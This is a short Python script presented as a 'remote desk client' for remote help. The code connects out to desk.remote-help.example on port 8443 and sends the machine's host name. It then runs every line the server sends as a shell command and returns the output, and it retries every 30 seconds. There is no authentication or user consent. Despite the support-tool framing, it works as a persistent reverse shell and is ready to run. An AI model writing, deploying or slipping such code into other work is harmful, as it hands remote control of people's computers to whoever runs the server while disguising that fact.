"""remote desk client, connects out so no firewall change needed"""
import asyncio
import platform

SERVER, PORT = "desk.remote-help.example", 8443


async def handle(reader, writer):
    writer.write((platform.node() + "\n").encode())
    await writer.drain()
    while not reader.at_eof():
        line = (await reader.readline()).decode().strip()
        if not line or line == "quit":
            break
        proc = await asyncio.create_subprocess_shell(
            line,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.STDOUT,
        )
        out, _ = await proc.communicate()
        writer.write(out)
        await writer.drain()
    writer.close()


async def main():
    while True:
        try:
            reader, writer = await asyncio.open_connection(SERVER, PORT)
            await handle(reader, writer)
        except OSError:
            await asyncio.sleep(30)


asyncio.run(main())
